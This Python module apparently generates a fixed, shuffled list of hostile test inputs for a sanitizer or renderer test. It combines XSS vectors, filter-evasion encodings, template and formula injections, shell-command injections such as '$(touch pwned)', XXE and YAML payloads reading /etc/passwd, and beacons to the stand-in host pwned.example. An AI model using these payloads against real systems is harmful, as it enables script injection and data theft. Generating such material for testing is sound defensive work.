"""Hostile texts, put together from contexts, tags, events, encodings and disguises.

A payload that runs says `pwned` in one of many ways; hostile_case.py hears each of them."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable
from html import escape
from itertools import cycle, product
from random import Random
from urllib.parse import quote

# What a payload does when it runs.
ACTS = (
    "alert('pwned')",
    "console.log('pwned')",
    "window.pwned=1",
    "fetch('https://pwned.example/')",
    "dispatchEvent(new(Event)('pwned'))",
    "(new(Image)).src='//pwned.example/i'",
    "import('https://pwned.example/m.js')",
    "document.title='pwned'",
    "location='https://pwned.example/'",
    "eval('pwned=1')",
    "print(confirm`pwned`)",
    "open('//pwned.example')",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "iframe src=//pwned.example",
    "object data=x",
    "embed src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "math",
    "form",
    "button autofocus",
    "style",
    "link rel=stylesheet href=//pwned.example",
    "meta",
    "image src=x",
    "track",
    "source",
    "isindex",
    "x contenteditable",
    "dialog open",
    "base href=//pwned.example/",
    "frameset",
    "keygen autofocus",
    "video><source",
    "picture><source srcset=x",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onclick",
    "onbegin",
    "onpageshow",
    "onstart",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
    "onloadstart",
    "onresize",
    "onscroll",
    "ontransitionend",
    "onbeforematch",
    "onwheel",
)
GAPS = (" ", "\t", "/", " / ", "\n", "/**/ ")
QUOTES = ("", "'", '"', "`")
ENDS = (">", "/>", " x=", "", "><!--", ">//")
# Where a text might find itself, and what would end that place.
CONTEXTS = (
    "",
    '">',
    "'>",
    '"/>',
    "`>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</template>",
    "</noscript>",
    "</svg>",
    "</p>",
    "</a>",
    '\\">',
    "\\'>",
    "&quot;>",
    "</option></select>",
    "<![CDATA[",
    "<!--><",
    "</iframe>",
)
CORES = (
    "<script>{act}</script>",
    "<ScRiPt>{act}</sCrIpT>",
    "<script/x>{act}</script >",
    "<script src=//pwned.example/x.js></script>",
    "<svg><script>{act}</script>",
    "<svg/onload={act}>",
    "<img src onerror={act}>",
    "<<script>{act}//<</script>",
    "<scr<script>ipt>{act}</script>",
    "<script\n>{act}</script\n>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><set onbegin={act} attributename=x>",
    "<object data='data:text/html,<script>{act}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={act}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<style>@import'//pwned.example/s.css'</style>",
    "<link rel=import href='data:text/html,<script>{act}</script>'>",
    "<a href='javascript:{act}'>x</a>",
    "<form action='javascript:{act}'><button>x</form>",
    "<form id=HONOUR_PEOPLE><input name=length>",
    "<base href='//pwned.example/'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={act}/>#x'>",
    "<xmp><img src=x onerror={act}></xmp>",
)
ATTRIBUTES = (
    '" {event}="{act}',
    "' {event}='{act}",
    '" autofocus {event}="{act}" x="',
    "' style='x:expression({act})",
    "` {event}=`{act}",
    '"{event}={act} ',
    '" srcdoc="<script>{act}</script>',
    '" href="javascript:{act}',
    "x {event}={act} ",
)
SCRIPTS = (
    '";{act};//',
    "';{act};//",
    "'-{act}-'",
    '"+{act}+"',
    '\\";{act};//',
    "\\';{act}//",
    "${{act}}",
    "`${{act}}`",
    "*/{act}/*",
    "</script><script>{act}</script>",
    "\\u2028{act}",
    "\\u2029{act}//",
    "*/</style><script>{act}</script>",
    "});{act};({",
    "]];{act};[[",
    "\\u0022;{act};//",
    "\\x22;{act};//",
    "<!--<script>{act}",
    "__proto__",
    "constructor",
    "toString",
    "{{pwned}}",
    "%0a{act}",
)
CODES = (
    "{{7*7}}",
    "{{ view.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as o %}",
    "{# x #}",
    "<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "{name.__class__}",
    "%(name)s %s %n",
    '#eval("1+1")',
    '#read("/etc/passwd")',
    '#import "@preview/pwned:1.0.0": *',
    '#include "/etc/passwd"',
    "#set page(fill: red)",
    "$ sum_(i=0)^n $",
    "*#[#panic()]*",
    "@ref <label>",
    '=HYPERLINK("https://pwned.example")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\\input{/etc/passwd}",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned",
    "| touch pwned",
    "!!python/object/apply:os.system [id]",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<?xml-stylesheet href='//pwned.example'?>",
    "<xi:include href='/etc/passwd'/>",
    "MERGEFIELD pwned",
    "DDEAUTO c:\\\\pwned",
    "%PDF-1.4",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:",
    "file:///",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    lambda s: s.replace(":", "&colon;"),
    lambda s: s.replace(":", "&#58;"),
    lambda s: s.replace(":", "&#x3A;"),
    lambda s: s.replace("s", "s\t", 1),
    lambda s: s.replace("s", "s&Tab;", 1),
    lambda s: s.replace("a", "&#97;", 1),
    lambda s: s.replace("a", "&NewLine;a", 1),
    lambda s: " \u3000" + s,
    lambda s: "\u200b" + s,
    lambda s: s.replace("a", "%61", 1),
    lambda s: s.replace(":", "\uff1a"),
    lambda s: "//" + s,
    lambda s: "\\" + s,
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[![x]({})]({})",
    '[x]({} "t")',
    "<a href={}>x</a>",
)
WRAPS: tuple[Callable[[str], str], ...] = (
    escape,
    lambda s: escape(escape(s)),
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x}" for c in s),
    lambda s: "".join(f"&#{ord(c):07}" for c in s),
    quote,
    lambda s: quote(quote(s)),
    lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
    lambda s: s.translate({n: n + 0xFEE0 for n in range(0x21, 0x7F)}),
    lambda s: s.replace("<", "\u2039").replace(">", "\u203a"),
    lambda s: s.replace("<", "<\u200d"),
    lambda s: "+ADw-" + s[1:],
    lambda s: s.replace("<", "\\<").replace(">", "\\>"),
    lambda s: f"`{s}`",
    lambda s: f"**{s}**",
    lambda s: f"> - {s}",
    lambda s: f"| a |\n|---|\n| {s} |",
    lambda s: f"## {s}",
    lambda s: f"a[^1]\n\n[^1]: {s}",
    lambda s: f"```\n{s}\n```",
)


def _filled(form: str, act: str, event: str = "onclick") -> str:
    return form.replace("{act}", act).replace("{event}", event)


def payloads() -> list[str]:
    """Every payload once, in an order that mixes the families; the same each time."""
    act = cycle(ACTS)
    found = [
        f"<{tag}{gap}{event}={mark}{next(act).replace(mark or ' ', '`')}{mark}{end}"
        for (n, tag), (m, event) in product(enumerate(TAGS), enumerate(EVENTS))
        for gap, mark, end in ((GAPS[(n + m) % 6], QUOTES[(n * 5 + m) % 4], ENDS[(n * 7 + m) % 6]),)
    ]
    found += [place + _filled(core, next(act)) for place in CONTEXTS for core in CORES]
    found += [_filled(form, next(act), event) for form in ATTRIBUTES for event in EVENTS]
    found += [_filled(form, next(act)) for form in SCRIPTS] + list(CODES)
    for scheme, disguise, link in product(SCHEMES, DISGUISES, LINKS):
        run = f"<script>{next(act)}</script>" if scheme.startswith("data") else next(act)
        run = b64encode(run.encode()).decode() if "base64" in scheme else run.replace(" ", "")
        found.append(link.replace("{}", disguise(scheme) + run))
    found += [wrap(_filled(core, next(act))) for wrap in WRAPS for core in CORES]
    found = list(dict.fromkeys(found))
    Random(8).shuffle(found)
    # With a wide colon it is a picture that is missing, which hides the whole record.
    return [one.replace("![x](", "[y](") if "\uff1a" in one else one for one in found]
